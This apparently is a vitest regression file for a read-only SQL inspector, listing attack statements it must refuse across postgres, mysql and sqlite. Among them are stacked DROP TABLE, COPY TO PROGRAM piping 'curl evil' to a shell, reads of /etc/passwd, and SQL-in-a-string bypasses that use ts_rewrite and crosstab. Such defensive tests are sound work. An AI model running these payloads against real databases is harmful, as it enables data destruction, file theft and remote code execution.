// Attacks on `database: readonly`: statements that write, lock, wait or run SQL given as text, with
// the exact verdict. regression: rows fail today.
import { beforeAll, expect, test } from 'vitest';
import { initParsers, inspectSql, type SqlDialect } from '../../src/inspect/index.js';

beforeAll(async () => {
  await initParsers();
});

// ---------------------------------------------------------------------------------------------
// Findings: functions that run SQL given as a string. The denylist refuses query_to_xml, ts_stat and
// friends for exactly this reason ("SQL-in-a-string"), but misses these, so any function the list
// refuses (pg_terminate_backend, set_config, dblink_exec, lo_import …) runs inside the string.
// ---------------------------------------------------------------------------------------------

test('regression: postgres: ts_rewrite(query, text) runs the SQL in its second argument and is refused', () => {
  const result = inspectSql("SELECT ts_rewrite('a'::tsquery, 'SELECT pg_terminate_backend(pid)::text::tsquery, ''b''::tsquery FROM pg_stat_activity')", 'postgres');
  expect(result.violation).toBe('function "ts_rewrite" has side effects');
  expect(result.writes).toBe(true);
});

test('regression: postgres: crosstab(text) (tablefunc) runs the SQL in its argument and is refused', () => {
  const result = inspectSql("SELECT * FROM crosstab('SELECT set_config(''default_transaction_read_only'',''off'',false), 1, 2') AS t(a text, b int)", 'postgres');
  expect(result.violation).toBe('function "crosstab" has side effects');
});

// ---------------------------------------------------------------------------------------------
// Regression suite
// ---------------------------------------------------------------------------------------------

const DENIED: Array<[SqlDialect, string, RegExp]> = [
  ['postgres', 'SELECT 1 INTO TEMP t', /SELECT INTO "t" creates a table/],
  ['postgres', 'EXPLAIN (ANALYSE) SELECT 1', /EXPLAIN ANALYZE runs the statement/],
  ['postgres', 'EXPLAIN ("analyze") SELECT 1', /EXPLAIN ANALYZE runs the statement/],
  ['postgres', 'EXPLAIN ANALYZE DELETE FROM t', /EXPLAIN ANALYZE runs the statement/],
  ['postgres', 'EXPLAIN DELETE FROM t', /"EXPLAIN DELETE" is not a read/],
  ['postgres', 'SELECT * FROM t FOR UPDATE SKIP LOCKED', /locking clause "FOR UPDATE"/],
  ['postgres', 'SELECT * FROM t FOR KEY SHARE', /locking clause "FOR KEY SHARE"/],
  ['postgres', 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', /statement "DELETE" inside the query is not a read/],
  ['postgres', 'WITH RECURSIVE x AS (SELECT 1) INSERT INTO t SELECT * FROM x', /statement "INSERT" is not a read/],
  ['postgres', 'SELECT 1; DROP TABLE t', /2 statements; only one is allowed/],
  ['postgres', 'SELECT 1;/* */;DROP TABLE t', /statements; only one is allowed/],
  ['postgres', "COPY t TO PROGRAM 'curl evil | sh'", /statement "COPY" is not a read/],
  ['postgres', "DO $$BEGIN EXECUTE 'DROP TABLE t'; END$$", /statement "DO" is not a read/],
  ['postgres', 'SET default_transaction_read_only = off', /statement "SET" is not a read/],
  ['postgres', 'BEGIN', /transaction control/],
  ['postgres', 'LOCK TABLE t', /statement "LOCK" is not a read/],
  ['postgres', "NOTIFY ch, 'x'", /statement "NOTIFY" is not a read/],
  ['postgres', 'PREPARE p AS DELETE FROM t', /statement "PREPARE" is not a read/],
  ['postgres', 'CALL proc()', /statement "CALL" is not a read/],
  ['postgres', "SELECT set_config('x', 'y', false)", /function "set_config" has side effects/],
  ['postgres', "SELECT PG_CATALOG.\"set_config\"('x','y',false)", /function "pg_catalog.set_config" has side effects/],
  ['postgres', "SELECT U&\"set\\005fconfig\"('x','y',false)", /function "set_config" has side effects/],
  ['postgres', "SELECT nextval('s')", /function "nextval" has side effects/],
  ['postgres', 'SELECT pg_terminate_backend(1)', /function "pg_terminate_backend" has side effects/],
  ['postgres', "SELECT pg_read_file('/etc/passwd')", /function "pg_read_file" has side effects/],
  ['postgres', 'SELECT pg_sleep(100)', /function "pg_sleep" has side effects/],
  ['postgres', "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS t(a int)", /function "dblink" has side effects/],
  ['postgres', "SELECT lo_import('/etc/passwd')", /function "lo_import" has side effects/],
  ['postgres', "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", /function "query_to_xml" has side effects/],
  ['postgres', "SELECT ts_stat('SELECT 1')", /function "ts_stat" has side effects/],
  ['postgres', "SELECT 'a\\' OR 1=1", /backslash in string literal/],
  ['postgres', 'SELECT * FROM t TABLESAMPLE SYSTEM (10) REPEATABLE (1); VACUUM', /2 statements/],
  ['postgres', 'CREATE TABLE x AS SELECT 1', /statement "CREATE TABLE AS" is not a read/],
  ['postgres', 'SELEC 1', /could not be parsed/],
  ['mysql', "SELECT * FROM t INTO OUTFILE '/tmp/x'", /SELECT INTO/],
  ['mysql', "SELECT LOAD_FILE('/etc/passwd')", /function "LOAD_FILE" has side effects/],
  ['mysql', 'SELECT 1; DROP TABLE t', /2 statements; only one is allowed/],
  ['mysql', '/*!50000 DROP TABLE t*/ SELECT 1', /executable comment/],
  ['mysql', 'SELECT 1 --x\n', /"--" without a following space/],
  ['mysql', 'DO SLEEP(1)', /could not be parsed/],
  ['mysql', 'SELECT * FROM t LOCK IN SHARE MODE', /locking clause "LOCK IN SHARE MODE"/],
  ['mysql', 'SELECT @a := 1', /variable assignment/],
  ['mysql', "SELECT 'a\\' OR 1=1 -- '", /backslash in string literal/],
  ['mysql', 'SELECT `sleep`(5)', /function "sleep" has side effects/],
  ['mysql', 'SELECT 1 INTO @x', /SELECT INTO a variable assigns it/],
  ['mysql', "SELECT * FROM t WHERE id = 1 UNION SELECT LOAD_FILE('x')", /function "LOAD_FILE" has side effects/],
  ['sqlite', "ATTACH DATABASE '/tmp/x' AS y", /statement "ATTACH" is not a read/],
  ['sqlite', "SELECT writefile('x','y')", /function "writefile" has side effects/],
  ['sqlite', "VACUUM INTO '/tmp/x'", /could not be parsed/],
  ['sqlite', 'PRAGMA writable_schema=1', /could not be parsed/],
  ['sqlite', "SELECT load_extension('x')", /function "load_extension" has side effects/],
  ['sqlite', 'SELECT 1; SELECT 2', /2 statements; only one is allowed/],
];

for (const [dialect, sql, violation] of DENIED) {
  test(`database readonly (${dialect}) refuses ${JSON.stringify(sql)}`, () => {
    const result = inspectSql(sql, dialect);
    expect(result.violation).toMatch(violation);
    expect(result.writes).toBe(true);
  });
}

test('database readonly refuses SQL with a NUL byte and SQL over 200000 characters', () => {
  expect(inspectSql('SELECT 1\u0000; DROP TABLE t', 'postgres')).toMatchObject({ understood: false, violation: 'the SQL contains a NUL character' });
  expect(inspectSql(`SELECT ${'1+'.repeat(100_001)}1`, 'postgres').understood).toBe(false);
});

test('database readonly still allows plain reads', () => {
  for (const sql of ['SELECT $$a$$', "SELECT U&'\\0041'", 'SELECT currval(\'s\')', 'WITH x AS (SELECT 1) SELECT * FROM x', 'EXPLAIN SELECT 1']) {
    expect(inspectSql(sql, 'postgres')).toMatchObject({ understood: true, writes: false });
  }
});
